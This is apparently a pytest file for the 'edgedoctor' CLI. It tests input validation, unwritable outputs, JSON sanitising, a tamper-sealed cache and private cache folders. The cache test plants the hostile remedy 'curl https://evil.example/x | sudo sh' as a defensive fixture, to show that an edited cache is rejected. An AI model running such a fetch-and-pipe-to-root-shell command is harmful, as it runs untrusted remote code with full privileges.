"""The low items of issue #15: option values that are not what they claim (nan, inf, -1), outputs that cannot be
written (found before the run; a full device), JSON that JSON readers accept, a compiled matrix cache that is
never trusted for content, and a cache folder in a shared temp folder that no one else can plant."""

import json
import math
import os
import stat
from pathlib import Path

import pytest

from edgedoctor import exitcodes, matrix, models
from edgedoctor.diagnosis import requirements
from edgedoctor.matrix import engine
from edgedoctor.render import jsonfmt, markdown

REPO = Path(__file__).resolve().parent.parent
SCENARIO = REPO / "tests" / "fixtures" / "scenarios" / "healthy-usb3.json"


@pytest.mark.parametrize("text", ["speedup=nan", "speedup=inf", "speedup=1e309", "max-tpu-ms=-inf", "speedup=NaN"])
def test_a_requirement_that_is_not_a_finite_number_is_refused(text, run_cli):
    with pytest.raises(ValueError):
        requirements.parse(text)
    code, out, err = run_cli("check", "--offline", "--require", text)
    assert code == exitcodes.USAGE_ERROR and "finite" in err


@pytest.mark.parametrize("value", ["-1", "1e3", "x", "99999999999"])
def test_model_info_runtime_version_must_be_a_version(run_cli, value):
    code, out, err = run_cli("model-info", "x.tflite", "--runtime-version", value)
    assert code == exitcodes.USAGE_ERROR and "--runtime-version" in err


def test_an_unwritable_output_is_found_before_the_run(run_cli, tmp_path, monkeypatch):
    from edgedoctor.facts import collect

    def never(*args, **kwargs):
        raise AssertionError("the check ran although its output cannot be written")

    monkeypatch.setattr(collect, "collect", never)
    code, out, err = run_cli("check", "--offline", "-o", tmp_path / "missing-folder" / "r.json")
    assert code == exitcodes.USAGE_ERROR and "cannot write" in err and "missing-folder" in err
    code, out, err = run_cli("check", "--offline", "-o", tmp_path)
    assert code == exitcodes.USAGE_ERROR and "folder" in err
    code, out, err = run_cli("diagnose", SCENARIO, "-o", tmp_path / "no" / "r.md")
    assert code == exitcodes.USAGE_ERROR and "cannot write" in err


def test_a_writable_output_that_did_not_exist_is_not_left_behind_by_the_check(tmp_path):
    from argparse import Namespace

    from edgedoctor.commands import common

    target = tmp_path / "r.json"
    assert common.unwritable_outputs(Namespace(output=[str(target)])) is None
    assert not target.exists()


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_standard_output_on_a_full_device_is_said_not_a_traceback(tmp_path):
    import subprocess
    import sys

    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [sys.executable, "-m", "edgedoctor", "diagnose", str(SCENARIO)],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env=dict(os.environ, PYTHONPATH=str(REPO)),
        )
    assert proc.returncode == exitcodes.USAGE_ERROR
    assert "No space left on device" in proc.stderr and "Traceback" not in proc.stderr


def test_json_output_never_holds_infinity_or_nan():
    report = json.loads(SCENARIO.read_text())
    report["facts"]["inference"]["speedup"] = float("inf")
    report["facts"]["inference"]["x"] = [float("nan"), 1.5, -float("inf")]
    for text in (jsonfmt.render(report), markdown.render(dict(report, findings=[], diagnoses=[]))):
        assert "Infinity" not in text and "NaN" not in text
    loaded = json.loads(jsonfmt.render(report))
    assert loaded["facts"]["inference"]["speedup"] is None and loaded["facts"]["inference"]["x"] == [None, 1.5, None]
    assert not math.isnan(1.5)


def test_the_compiled_cache_is_never_trusted_for_content(tmp_path, monkeypatch):
    """An edited cache once showed its remedies, and a signature planted in it ran: the data is sealed with a
    key only this user can read, and a cache whose seal does not hold is rebuilt from the files."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv(matrix.CACHE_ENV, raising=False)
    folder = (REPO / "matrix").resolve()
    key = engine._source_key(folder)
    engine._write_compiled(engine._build(folder), key)
    path = engine._cache_file(key, folder)
    if path is None:
        pytest.skip("no user cache folder here")
    assert engine._read_compiled(folder, key) is not None  # the untouched cache is used
    secret = path.parent / ".secret"
    assert stat.S_IMODE(os.stat(secret).st_mode) == 0o600
    data = json.loads(path.read_text())
    first = data["entries"][0]
    first["remedy"] = {"all": "curl https://evil.example/x | sudo sh"}
    first["signatures"].append(["planted words", [["planted words"]], 13, False])
    path.write_text(json.dumps(data))
    assert engine._read_compiled(folder, key) is None  # the seal does not hold: built from the files
    os.chmod(secret, 0o644)  # a key others can read seals nothing
    engine._write_compiled(engine._build(folder), key)
    assert engine._read_compiled(folder, key) is None


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX ownership")
def test_a_cache_folder_planted_in_the_temp_folder_is_not_used(tmp_path):
    planted_target = tmp_path / "theirs"
    planted_target.mkdir()
    planted = tmp_path / "edgedoctor-cache-1000"
    planted.symlink_to(planted_target)  # another user's symlink where ours would go
    chosen = models.private_folder(planted)
    assert chosen != planted and chosen.is_dir() and not chosen.is_symlink()
    assert stat.S_IMODE(os.stat(chosen).st_mode) == 0o700
    open_to_all = tmp_path / "edgedoctor-cache-1001"
    open_to_all.mkdir(mode=0o777)
    os.chmod(open_to_all, 0o777)
    assert models.private_folder(open_to_all) != open_to_all
    fresh = tmp_path / "edgedoctor-cache-1002"
    assert models.private_folder(fresh) == fresh and stat.S_IMODE(os.stat(fresh).st_mode) == 0o700
    assert models.private_folder(fresh) == fresh  # ours, on the next run too


def test_without_home_the_cache_is_a_private_folder(monkeypatch, tmp_path):
    import platformdirs

    monkeypatch.setattr(platformdirs, "user_cache_dir", lambda *a, **k: "~/.cache/edgedoctor")
    monkeypatch.setattr("tempfile.gettempdir", lambda: str(tmp_path))
    folder = models.cache_root()
    assert folder.is_absolute() and str(folder).startswith(str(tmp_path))
    assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
